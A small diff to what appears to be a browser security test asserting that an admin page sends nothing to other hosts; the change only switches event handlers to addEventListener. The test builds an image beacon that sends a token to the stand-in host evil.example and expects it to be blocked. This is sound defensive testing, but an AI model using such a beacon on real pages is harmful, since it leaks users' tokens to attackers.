@@ -104,8 +104,8 @@ test('the admin runs no inline script and sends nothing to other hosts (threat 4
       await blocked(
         new Promise((resolve, reject) => {
           const beacon = new Image();
-          beacon.onload = resolve;
-          beacon.onerror = reject;
+          beacon.addEventListener('load', resolve);
+          beacon.addEventListener('error', reject);
           beacon.src = 'https://evil.example/?token=x';
         }),
       ),
